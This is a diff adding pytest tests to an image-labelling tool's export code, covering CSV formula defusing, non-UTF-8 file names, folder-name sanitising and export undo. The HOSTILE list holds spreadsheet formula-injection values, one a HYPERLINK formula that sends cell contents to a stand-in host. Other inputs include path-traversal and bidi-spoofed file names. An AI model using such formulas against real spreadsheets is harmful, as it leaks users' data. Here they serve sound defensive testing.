@@ -111,6 +111,60 @@ def test_table_destination_must_be_a_file_in_a_folder(tmp_path: Path) -> None:
         ResultRow("x", None, None, "maybe", False)
 
 
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_defused(tmp_path: Path) -> None:
+    rows = [ResultRow(f"{h}.png", h, 0.5, "error", False, reason=h) for h in HOSTILE]
+    rows.append(ResultRow("a-b/+c.png", "x=1", None, "unknown", True, reason="a @ b"))  # not at the start: kept
+    out = tmp_path / "labels.csv"
+    assert write_csv(rows, out) == len(rows)
+    with out.open(encoding="utf-8", newline="") as f:
+        got = list(csv.DictReader(f))
+    for h, row in zip(HOSTILE, got, strict=False):
+        assert (row["path"], row["label"], row["reason"]) == (f"'{h}.png", f"'{h}", f"'{h}")
+    assert (got[-1]["path"], got[-1]["label"], got[-1]["reason"]) == ("a-b/+c.png", "x=1", "a @ b")
+    assert got[-1]["confidence"] == "" and got[0]["confidence"] == "0.5000"
+    json_out = tmp_path / "labels.json"
+    write_json(rows, json_out)  # JSON is data, not formulas: written as it is
+    items = json.loads(json_out.read_text("utf-8"))["items"]
+    assert [(i["path"], i["label"], i["reason"]) for i in items[:-1]] == [(f"{h}.png", h, h) for h in HOSTILE]
+
+
+RAW_NAME = b"caf\xe9-\xff.png"  # Latin-1 "é" and a stray byte: not UTF-8
+
+
+@pytest.mark.skipif(os.name == "nt", reason="Windows file names are UTF-16, never undecodable bytes")
+def test_names_that_are_not_utf8_round_trip_exactly(tmp_path: Path) -> None:
+    name = os.fsdecode(RAW_NAME)
+    folder = tmp_path / "in"
+    folder.mkdir()
+    try:
+        (folder / name).write_bytes(b"the image")
+    except (OSError, UnicodeEncodeError):
+        pytest.skip("this file system accepts only valid UTF-8 names")
+    rows = [ResultRow(f"sub/{name}", "a", 0.5, "predicted", False, reason=name)]
+    write_csv(rows, tmp_path / "labels.csv")
+    assert b"\nsub/" + RAW_NAME + b",a," in (tmp_path / "labels.csv").read_bytes()  # the name's own bytes
+    with (tmp_path / "labels.csv").open(encoding="utf-8", errors="surrogateescape", newline="") as f:
+        got = list(csv.DictReader(f))
+    assert os.fsencode(got[0]["path"]) == b"sub/" + RAW_NAME and os.fsencode(got[0]["reason"]) == RAW_NAME
+    write_json(rows, tmp_path / "labels.json", {"folder": str(folder)})
+    data = json.loads((tmp_path / "labels.json").read_text("utf-8"))  # valid UTF-8: \udcXX escapes
+    assert os.fsencode(data["items"][0]["path"]) == b"sub/" + RAW_NAME
+    assert os.fsencode(data["meta"]["folder"]) == os.fsencode(folder)
+
+    copied = tmp_path / "copy"
+    assert export_folders([(folder / name, "c"), (folder / name, "c")], copied).done == 2
+    assert sorted(os.listdir(os.fsencode(copied / "c"))) == [b"caf\xe9-\xff (2).png", RAW_NAME]
+    assert undo_export(copied).done == 2 and os.listdir(copied) == []
+    moved = tmp_path / "move"
+    assert export_folders([(folder / name, "c")], moved, move=True).done == 1
+    assert os.listdir(os.fsencode(moved / "c")) == [RAW_NAME] and os.listdir(folder) == []
+    assert undo_export(moved).done == 1
+    assert os.listdir(os.fsencode(folder)) == [RAW_NAME] and (folder / name).read_bytes() == b"the image"
+
+
 # -- names -----------------------------------------------------------------------------------------
 @pytest.mark.parametrize(("name", "expected"), [
     ("../../etc", "_._.._etc"),
@@ -136,6 +190,16 @@ def test_table_destination_must_be_a_file_in_a_folder(tmp_path: Path) -> None:
     ("name. ", "name"),
     ("  lead", "lead"),
     ("e\u0301", "\u00e9"),  # NFC
+    # invisible format characters that reorder or hide text are dropped...
+    ("\u202egnp.exe\u202c", "gnp.exe"),
+    ("a\u2066b\u2067c\u2068d\u2069", "abcd"),
+    ("\u200fright\u200e", "right"),
+    ("\ufeffbom", "bom"),
+    ("\u202e.hidden", "_hidden"),
+    # ...but the joiners that Persian, Indic scripts and emoji sequences need are kept
+    ("می\u200cخواهم", "می\u200cخواهم"),
+    ("क्\u200dष", "क्\u200dष"),
+    ("👩\u200d💻", "👩\u200d💻"),
 ])
 def test_safe_folder_name(name: str, expected: str) -> None:
     got = safe_folder_name(name)
@@ -149,6 +213,15 @@ def test_safe_folder_name_cuts_long_names_between_characters() -> None:
     assert safe_folder_name("a" * 199 + "🙂") == "a" * 199  # the emoji does not fit whole
 
 
+def test_safe_folder_name_keeps_undecodable_bytes_and_cuts_between_them() -> None:
+    name = os.fsdecode(RAW_NAME)
+    assert safe_folder_name(name) == name  # the same bytes on disk as the original
+    cut = safe_folder_name("日" * 66 + "\udcff" * 5)  # an escaped byte counts as the one byte it is
+    assert cut == "日" * 66 + "\udcff" * 2 and len(cut.encode("utf-8", "surrogateescape")) == MAX_NAME_BYTES
+    assert safe_folder_name("\udcff" * 300) == "\udcff" * MAX_NAME_BYTES
+    assert safe_folder_name("a\ud800b") == "a_b"  # a lone surrogate that stands for no byte
+
+
 def test_class_folders_are_distinct_and_stable() -> None:
     names = ["a/b", "a_b", "A_B", "a/b", "Alpha", "alpha", "v1.2", "v1.2 "]
     folders = class_folders(names)
@@ -156,6 +229,23 @@ def test_class_folders_are_distinct_and_stable() -> None:
                        "v1.2": "v1.2", "v1.2 ": "v1.2 (2)"}
     assert class_folders(names) == folders
     assert len({f.casefold() for f in folders.values()}) == len(folders)
+
+
+def test_none_of_these_gets_its_own_folder_after_the_classes() -> None:
+    assert class_folders(["a", None]) == {"a": "a", None: "unknown"}
+    assert class_folders([None, "unknown", "UNKNOWN (2)"]) == {"unknown": "unknown", "UNKNOWN (2)": "UNKNOWN (2)",
+                                                                None: "unknown (3)"}
+
+
+def test_folder_export_items_mark_none_of_these_apart_from_a_class_named_unknown() -> None:
+    from protoglyph.core.review import folder_export_items
+    from tests.test_batch import results_fixture
+
+    results, _, _ = results_fixture()
+    items = folder_export_items(results, {10: "unknown", 20: "b", 30: "c"}, with_unknown=True)
+    by_file = {p.name: name for p, name in items}
+    assert by_file["3.png"] == "unknown" and by_file["0.png"] == "unknown"  # the class
+    assert by_file["2.png"] is None and by_file["5.png"] is None  # none of these
 
 
 # -- the folder export --------------------------------------------------------------------------------
@@ -191,8 +281,8 @@ def test_copy_sorts_into_class_folders_without_overwriting(tmp_path: Path) -> No
                                  "alpha/x (3).png": b[0].read_bytes(), "β_γ/x.png": b[0].read_bytes()}
     assert (dest / "alpha" / "x (2).png").stat().st_mtime_ns == a[0].stat().st_mtime_ns
     assert {p: (p.read_bytes(), p.stat().st_mtime_ns) for p in (*a, *b)} == before
-    assert (dest / FINISHED_JOURNAL).exists() and not (dest / JOURNAL).exists()
-    assert pending_export(dest) == 0
+    assert [p.name for p in export.export_history(dest)] == [".protoglyph-export.finished.0001.jsonl"]
+    assert not (dest / JOURNAL).exists() and pending_export(dest) == 0
 
 
 def test_undo_of_a_copy_keeps_a_copy_whose_original_is_gone(tmp_path: Path) -> None:
@@ -262,6 +352,50 @@ def test_move_across_file_systems_copies_then_removes(tmp_path: Path, monkeypatc
     assert (dest / "c" / "same (2).png").read_bytes() == data
     assert undo_export(dest).done == 2 and other[0].read_bytes() == data
     assert sorted(os.listdir(dest / "c")) == ["same.png"]
+
+
+def test_a_class_named_unknown_and_none_of_these_stay_apart(tmp_path: Path) -> None:
+    src = make_sources(tmp_path / "in", 4)
+    original = {p: p.read_bytes() for p in src}
+    dest = tmp_path / "out"
+    items: list[tuple[Path, str | None]] = [(src[0], None), (src[1], "unknown"), (src[2], "Unknown"), (src[3], None)]
+    assert export_folders(items, dest, move=True).done == 4
+    assert files_under(dest) == {"unknown/img1.png": original[src[1]], "Unknown (2)/img2.png": original[src[2]],
+                                 "unknown (3)/img0.png": original[src[0]], "unknown (3)/img3.png": original[src[3]]}
+    assert undo_export(dest).done == 4
+    assert {p: p.read_bytes() for p in src} == original and os.listdir(dest) == []
+
+
+def test_each_export_keeps_its_journal_and_undo_steps_back_one_export(tmp_path: Path) -> None:
+    first = make_sources(tmp_path / "in1", 2, lambda i: f"a{i}.png")
+    second = make_sources(tmp_path / "in2", 2, lambda i: f"b{i}.png")
+    dest = tmp_path / "out"
+    export_folders([(p, "c") for p in first], dest, move=True)
+    export_folders([(p, "c") for p in second], dest, move=True)
+    assert undo_export(dest).done == 2  # the second export
+    assert all(p.exists() for p in second) and not any(p.exists() for p in first)
+    assert sorted(os.listdir(dest / "c")) == ["a0.png", "a1.png"]
+    assert undo_export(dest).done == 2  # then the first
+    assert all(p.exists() for p in first) and os.listdir(dest) == []
+    assert not export.can_undo_export(dest)
+    with pytest.raises(ExportError, match="no export to undo"):
+        undo_export(dest)
+
+
+def test_the_old_single_finished_journal_is_the_oldest_export(tmp_path: Path) -> None:
+    src = make_sources(tmp_path / "in", 3)
+    dest = tmp_path / "out"
+    export_folders([(src[0], "c")], dest, move=True)
+    (journal,) = export.export_history(dest)
+    journal.rename(dest / FINISHED_JOURNAL)  # as an earlier version of Protoglyph left it
+    export_folders([(src[1], "c")], dest, move=True)
+    export_folders([(src[2], "c")], dest, should_stop=lambda: True)  # interrupted: undone first
+    assert [p.name for p in export.export_history(dest)] == [FINISHED_JOURNAL, ".protoglyph-export.finished.0001.jsonl"]
+    assert export.can_undo_export(dest)
+    assert undo_export(dest).done == 0 and not (dest / JOURNAL).exists()
+    assert undo_export(dest).done == 1 and src[1].exists() and not src[0].exists()
+    assert undo_export(dest).done == 1 and src[0].exists() and os.listdir(dest) == []
+    assert export.export_history(dest) == [] and not export.can_undo_export(dest)
 
 
 def test_missing_source_is_skipped_with_a_reason(tmp_path: Path) -> None:
